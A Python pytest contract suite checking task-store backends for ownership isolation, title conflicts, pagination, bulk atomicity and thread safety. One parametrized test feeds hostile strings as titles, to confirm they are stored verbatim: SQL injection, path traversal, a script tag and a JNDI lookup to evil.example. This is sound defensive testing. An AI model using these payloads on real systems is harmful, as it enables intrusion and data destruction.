"""Behaviour every Store backend must show; subclassed per database by the test_store_* modules.

A subclass provides a ``store`` fixture (a fresh, empty store) and a ``second_store``
fixture (another Store object on the same database, like a second server process).
"""

from __future__ import annotations

import threading
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, date

import pytest

from example_server.errors import ErrorKind, ToolFailure
from example_server.models import AssignmentChanges, ListQuery, NewAssignment
from example_server.store import Store

ALICE = "alice@example.com"
BOB = "bob@example.com"


def item(title: str = "task", assignee: str = "carol@example.com", **fields) -> NewAssignment:
    return NewAssignment(title=title, assignee=assignee, **fields)


def walk(store: Store, owner: str, page_size: int, **filters) -> list[int]:
    seen: list[int] = []
    query = ListQuery(page_size=page_size, **filters)
    for _ in range(10_000):
        items, more = store.page(owner, query)
        assert len(items) <= page_size
        seen.extend(a.id for a in items)
        if not more:
            return seen
        query = ListQuery(page_size=page_size, after_id=items[-1].id, **filters)
    raise AssertionError("pagination did not terminate")


class StoreContract:
    def test_create_and_get(self, store: Store):
        created = store.create(ALICE, item("Write docs", priority=2, due_date=date(2030, 1, 2)))
        assert created.id >= 1
        assert (created.owner, created.title, created.priority, created.status) == (ALICE, "Write docs", 2, "open")
        assert created.due_date == date(2030, 1, 2)
        assert created.created_at.tzinfo is not None and created.created_at.utcoffset() == UTC.utcoffset(None)
        assert created.updated_at == created.created_at
        assert store.get(ALICE, created.id) == created

    def test_rows_are_private_to_their_owner(self, store: Store):
        created = store.create(ALICE, item())
        assert store.get(BOB, created.id) is None
        assert store.update(BOB, created.id, AssignmentChanges(status="done")) is None
        assert store.delete(BOB, created.id) is False
        assert store.page(BOB, ListQuery()) == ([], False)
        assert store.get(ALICE, created.id) == created

    def test_same_assignee_and_title_conflicts(self, store: Store):
        store.create(ALICE, item("Fix the build", "dan@example.com"))
        with pytest.raises(ToolFailure) as info:
            store.create(ALICE, item("Fix the build", "dan@example.com"))
        assert info.value.kind is ErrorKind.CONFLICT
        assert "title already exists" in info.value.message
        # The rule spans owners, and the message reveals nothing about the other row.
        with pytest.raises(ToolFailure) as info:
            store.create(BOB, item("Fix the build", "dan@example.com"))
        assert ALICE not in info.value.message and "id" not in info.value.message.split()
        # Another assignee, or another title, is fine.
        store.create(ALICE, item("Fix the build", "erin@example.com"))
        store.create(ALICE, item("Fix the build again", "dan@example.com"))
        assert store.count() == 3

    def test_update_into_a_conflict_changes_nothing(self, store: Store):
        first = store.create(ALICE, item("one"))
        second = store.create(ALICE, item("two"))
        with pytest.raises(ToolFailure) as info:
            store.update(ALICE, second.id, AssignmentChanges(title="one", priority=1))
        assert info.value.kind is ErrorKind.CONFLICT
        assert store.get(ALICE, second.id) == second
        assert store.get(ALICE, first.id) == first

    def test_update_changes_only_given_fields(self, store: Store):
        created = store.create(ALICE, item(priority=4))
        updated = store.update(ALICE, created.id, AssignmentChanges(status="in_progress", due_date=date(2031, 3, 4)))
        assert updated is not None
        assert (updated.status, updated.due_date, updated.priority, updated.title) == (
            "in_progress",
            date(2031, 3, 4),
            4,
            created.title,
        )
        assert updated.updated_at >= created.updated_at
        assert updated.created_at == created.created_at

    def test_delete_and_delete_all(self, store: Store):
        mine = store.create(ALICE, item("a"))
        store.create(BOB, item("b"))
        store.create(BOB, item("c"))
        assert store.delete(ALICE, mine.id) is True
        assert store.delete(ALICE, mine.id) is False
        assert store.delete_all() == 2
        assert store.count() == 0
        assert store.delete_all() == 0

    def test_ids_are_not_reused_after_delete(self, store: Store):
        first = store.create(ALICE, item("a"))
        store.delete(ALICE, first.id)
        assert store.create(ALICE, item("a")).id > first.id

    def test_pagination_visits_every_row_once_and_terminates(self, store: Store):
        created = [store.create(ALICE, item(f"task {n}")).id for n in range(53)]
        store.create(BOB, item("not alice's"))
        for page_size in (1, 10, 53, 100):
            assert walk(store, ALICE, page_size) == created

    def test_pagination_with_filters(self, store: Store):
        wanted = []
        for n in range(30):
            created = store.create(ALICE, item(f"t{n}", assignee="x@example.com" if n % 3 else "y@example.com"))
            if n % 2:
                store.update(ALICE, created.id, AssignmentChanges(status="done"))
            elif n % 3:
                wanted.append(created.id)
        assert walk(store, ALICE, 4, status="open", assignee="x@example.com") == wanted

    def test_pagination_survives_concurrent_inserts_and_deletes(self, store: Store):
        initial = [store.create(ALICE, item(f"old {n}")).id for n in range(40)]
        seen: list[int] = []
        query = ListQuery(page_size=7)
        counter = 0
        while True:
            items, more = store.page(ALICE, query)
            seen.extend(a.id for a in items)
            counter += 1
            store.create(ALICE, item(f"new {counter}"))  # lands after the cursor
            if initial:
                store.delete(ALICE, initial.pop())  # removes something not yet seen
            if not more:
                break
            query = ListQuery(page_size=7, after_id=items[-1].id)
        assert len(seen) == len(set(seen))
        assert seen == sorted(seen)

    def test_bulk_create_is_all_or_nothing(self, store: Store):
        store.create(ALICE, item("exists", "z@example.com"))
        batch = [item(f"b{n}") for n in range(5)] + [item("exists", "z@example.com")] + [item("b9")]
        with pytest.raises(ToolFailure) as info:
            store.bulk_create(ALICE, batch)
        assert info.value.kind is ErrorKind.CONFLICT
        assert info.value.message.startswith("nothing was created")
        assert info.value.details == {"items[5]": "an assignment with this title already exists for this assignee"}
        assert store.count() == 1

    def test_bulk_create_duplicate_within_the_batch(self, store: Store):
        with pytest.raises(ToolFailure) as info:
            store.bulk_create(ALICE, [item("a"), item("b"), item("a")])
        assert list(info.value.details) == ["items[2]"]
        assert store.count() == 0
        created = store.bulk_create(ALICE, [item("a"), item("b")])
        assert [a.title for a in created] == ["a", "b"]
        assert store.count() == 2

    @pytest.mark.parametrize(
        "title",
        [
            "'); DROP TABLE assignments; --",
            "Robert'); DELETE FROM assignments WHERE ('1'='1",
            "? %s %(x)s $1 :name",
            "../../etc/passwd",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}",
        ],
    )
    def test_hostile_text_is_stored_verbatim(self, store: Store, title: str):
        created = store.create(ALICE, item(title, "o'brien@example.com"))
        assert store.get(ALICE, created.id).title == title
        assert store.page(ALICE, ListQuery(assignee="o'brien@example.com"))[0][0].title == title
        assert store.count() == 1

    def test_many_threads_writing_lose_and_duplicate_nothing(self, store: Store, second_store: Store):
        threads, per_thread = 12, 20

        def writer(n: int) -> list[int]:
            target = store if n % 2 else second_store
            return [target.create(f"user{n}@example.com", item(f"t{n}-{k}")).id for k in range(per_thread)]

        with ThreadPoolExecutor(threads) as pool:
            results = list(pool.map(writer, range(threads)))
        ids = [i for chunk in results for i in chunk]
        assert len(ids) == len(set(ids)) == threads * per_thread
        assert store.count() == threads * per_thread
        for n in range(threads):
            assert walk(store, f"user{n}@example.com", 7) == results[n]

    def test_racing_for_the_same_key_has_one_winner(self, store: Store, second_store: Store):
        threads = 12
        barrier = threading.Barrier(threads)

        def attempt(n: int) -> str:
            barrier.wait()
            try:
                (store if n % 2 else second_store).create(f"user{n}@example.com", item("same", "same@example.com"))
            except ToolFailure as failure:
                return failure.kind.value
            return "created"

        with ThreadPoolExecutor(threads) as pool:
            outcomes = list(pool.map(attempt, range(threads)))
        assert sorted(outcomes) == ["conflict"] * (threads - 1) + ["created"]
        assert store.count() == 1

    def test_concurrent_bulk_creates_are_atomic(self, store: Store, second_store: Store):
        def bulk(n: int) -> str:
            # Every batch shares the item "shared": exactly one batch can succeed in full.
            batch = [item(f"own {n}-{k}") for k in range(5)] + [item("shared")]
            try:
                (store if n % 2 else second_store).bulk_create(ALICE, batch)
            except ToolFailure:
                return "conflict"
            return "created"

        with ThreadPoolExecutor(8) as pool:
            outcomes = list(pool.map(bulk, range(8)))
        assert outcomes.count("created") == 1
        assert store.count() == 6

    def test_close_then_use_again(self, store: Store):
        created = store.create(ALICE, item())
        store.close()
        assert store.get(ALICE, created.id) == created
